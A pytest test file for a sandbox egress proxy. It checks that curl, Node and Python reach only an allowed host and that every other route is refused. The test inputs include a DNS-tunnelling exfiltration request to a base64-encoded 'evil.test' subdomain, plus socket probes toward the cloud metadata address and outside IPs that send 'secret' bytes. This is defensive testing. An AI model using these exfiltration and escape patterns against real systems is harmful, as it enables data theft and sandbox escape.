"""Programs that know nothing of proxies, in a namespace with no way out but `inside`: the granted host answers them.

This is a bare namespace, not a backend: it shows what `inside` and the proxy do together, with no variable set.
"""

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from sandbox.egress import inside

PYTHON = """
import ssl, urllib.request
context = ssl.create_default_context(cafile=CA)
print(urllib.request.urlopen("http://allowed.test/python").read().decode())
print(urllib.request.urlopen("https://allowed.test/python-tls", context=context).read().decode())
"""
NODE = """
(async () => {
  console.log(await (await fetch("http://allowed.test/node")).text());
  console.log(await (await fetch("https://allowed.test/node-tls")).text());
})();
"""
WALLS = """
import socket
def tried(kind, family, address, how):
    with socket.socket(family, kind, socket.IPPROTO_ICMP if kind == socket.SOCK_RAW else 0) as probe:
        probe.settimeout(2)
        try:
            how(probe, address)
            return "through"
        except OSError as error:
            return type(error).__name__
stream, packet, raw = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW
connect = lambda probe, address: probe.connect(address)
send = lambda probe, address: probe.sendto(b"secret", address)
print([
    tried(stream, socket.AF_INET, ("93.184.216.34", 80), connect),
    tried(stream, socket.AF_INET, ("169.254.169.254", 80), connect),
    tried(stream, socket.AF_INET6, ("2606:2800:220:1::34", 80), connect),
    tried(packet, socket.AF_INET, ("93.184.216.34", 443), send),
    tried(packet, socket.AF_INET, ("10.53.0.53", 53), send),
    tried(raw, socket.AF_INET, ("93.184.216.34", 0), send),
])
"""


def run(world, socket_path: str, *command: str) -> subprocess.CompletedProcess[str]:
    """The command with an empty environment, in a namespace that holds only its loopback and the companion."""
    resolv = world.folder / "inside-resolv.conf"
    resolv.write_text("nameserver 127.0.0.1\n")
    steps = (
        'mount --bind "$1" /etc/resolv.conf; coproc COMPANION { exec "$2" -I "$3" "$4"; };'
        'read -r _ <&"${COMPANION[0]}"; pid=$COMPANION_PID; shift 4; "$@"; code=$?; kill $pid; exit $code'
    )
    return subprocess.run(
        [
            *("unshare", "--net", "--mount", "/usr/bin/env", "-i", "PATH=/usr/bin:/bin:/usr/sbin"),
            *(f"NODE_EXTRA_CA_CERTS={world.folder}/ca.pem", "bash", "-c", steps, "inside"),
            *(str(resolv), sys.executable, str(Path(inside.__file__)), socket_path, *command),
        ],
        capture_output=True, text=True, timeout=30, check=False,
    )  # fmt: skip


def needs(program: str) -> str:
    if shutil.which(program) is None:
        pytest.skip(f"{program} is not installed: apt-get install -y {program.replace('node', 'nodejs')}")
    return program


def test_python_curl_and_node_reach_the_granted_host_with_no_proxy_variable(world):
    door = world.door("allowed.test")
    ca = str(world.folder / "ca.pem")

    curl = run(world, door, needs("curl"), "-sS", "--cacert", ca, "http://allowed.test/c", "https://allowed.test/c-tls")
    node = run(world, door, needs("node"), "-e", NODE)
    python = run(world, door, sys.executable, "-c", PYTHON.replace("CA", repr(ca)))

    assert curl.stdout.count("hello from 93.184.216.34") == 2, curl.stderr
    assert node.stdout.count("hello from 93.184.216.34") == 2, node.stderr
    assert python.stdout.count("hello from 93.184.216.34") == 2, python.stderr


def test_an_unlisted_host_is_refused_with_the_reason_and_no_question_leaves(world):
    door = world.door("allowed.test")
    before = len(world.seen("queries"))

    plain = run(world, door, needs("curl"), "-sS", "http://unlisted.test/")
    secure = run(world, door, needs("curl"), "-sS", "https://unlisted.test/")
    tunnelled = run(world, door, needs("curl"), "-sS", "http://c2VjcmV0.evil.test/")

    assert "network.http:unlisted.test" in plain.stdout
    assert secure.returncode == 35  # TLS was refused
    assert "not_granted" in tunnelled.stdout
    assert world.seen("queries")[before:] == []


def test_e2_whatever_ignores_the_socket_is_dead(world):
    before = len(world.seen("hits")) + len(world.seen("queries"))

    walls = run(world, world.door("allowed.test"), sys.executable, "-c", WALLS)

    assert walls.stdout.strip() == str(["OSError"] * 6), walls.stderr
    assert len(world.seen("hits")) + len(world.seen("queries")) == before


@pytest.mark.parametrize("question", [b"", b"\0" * 11, b"\0\0\x81\x80\0\1" + b"\0" * 6, b"\0" * 12 + b"\x3f" * 40])
def test_what_is_not_a_question_gets_no_answer(question):
    assert inside.reply(question) is None
